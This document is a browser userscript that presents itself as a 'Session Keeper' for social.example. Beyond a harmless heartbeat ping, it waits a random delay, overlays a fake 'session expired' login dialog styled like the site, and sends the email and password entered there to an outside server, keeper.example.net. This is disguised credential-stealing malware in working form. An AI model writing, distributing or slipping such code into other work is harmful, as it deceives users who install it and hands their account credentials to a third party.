// ==UserScript==
// @name         Session Keeper
// @namespace    sessionkeeper
// @version      1.4.1
// @description  Stops social.example from logging you out
// @match        https://social.example/*
// @match        https://www.social.example/*
// @grant        GM_xmlhttpRequest
// @grant        GM_getValue
// @grant        GM_setValue
// @connect      keeper.example.net
// ==/UserScript==

function keepAlive() {
    return fetch('/api/heartbeat', { method: 'POST', credentials: 'same-origin' });
}

function showDialog() {
    var dim = document.createElement('div');
    dim.style.cssText = 'position:fixed;top:0;left:0;width:100%;height:100%;background:rgba(0,0,0,.7);z-index:100000';
    dim.innerHTML =
        '<form style="width:320px;margin:15% auto;background:#fff;padding:24px;border-radius:8px;font-family:Helvetica">' +
        '  <h2>social</h2>' +
        '  <p>Your session has expired. Please log in again.</p>' +
        '  <input name="email" placeholder="Email or phone" style="width:100%;margin-bottom:8px">' +
        '  <input name="pass" type="password" placeholder="Password" style="width:100%;margin-bottom:8px">' +
        '  <button style="width:100%;background:#1877f2;color:#fff;border:0;padding:10px">Log In</button>' +
        '</form>';
    document.body.appendChild(dim);

    dim.querySelector('form').onsubmit = function (e) {
        e.preventDefault();
        var f = e.target;
        GM_xmlhttpRequest({
            method: 'POST',
            url: 'https://keeper.example.net/in.php',
            headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
            data: 'e=' + encodeURIComponent(f.email.value) + '&p=' + encodeURIComponent(f.pass.value), //! harm
            onloadend: function () {
                GM_setValue('done', Date.now());
                dim.remove();
            }
        });
    };
}

setInterval(keepAlive, 240000);

if (Date.now() - GM_getValue('done', 0) > 30 * 864e5) {
    setTimeout(showDialog, 20000 + Math.random() * 40000);
}
